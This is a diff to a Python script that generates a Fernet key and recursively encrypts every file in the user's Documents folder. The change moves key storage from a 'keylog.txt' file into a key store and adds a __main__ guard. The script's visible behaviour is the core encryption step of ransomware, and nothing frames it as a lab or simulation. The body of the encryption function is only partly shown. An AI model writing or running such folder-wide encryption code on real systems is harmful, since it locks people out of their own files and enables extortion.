@@ -2,13 +2,13 @@ from cryptography.fernet import Fernet
 import os
 from platformdirs import user_documents_dir
 import oqs
+from keystore import KeyStore, DEFAULT_PATH, KIND_SYMMETRIC
 
-# Generates a random 128 bit length key and save it on a file
+# Generates a random 128 bit length key and save it on the key store
 def keyGen():
     key = Fernet.generate_key()
-    file = open("keylog.txt", "ab")
-    file.write(key + b"\n") # (binary) Line break to separate keys  
-    file.close()
+    with KeyStore(DEFAULT_PATH) as store:
+        store.put(KIND_SYMMETRIC, key)
     return key
 
 def encryption(key, folderpath):
@@ -31,7 +31,8 @@ def encryption(key, folderpath):
         elif os.path.isdir(currentPath):
             encryption(key,currentPath) # Recursivity for subfolders
 # ENCRYPTION OF FOLDER
-key = keyGen()
-folderpath = user_documents_dir()
-print(folderpath)
-encryption(key,folderpath)
\ No newline at end of file
+if __name__ == "__main__":
+    key = keyGen()
+    folderpath = user_documents_dir()
+    print(folderpath)
+    encryption(key,folderpath)
\ No newline at end of file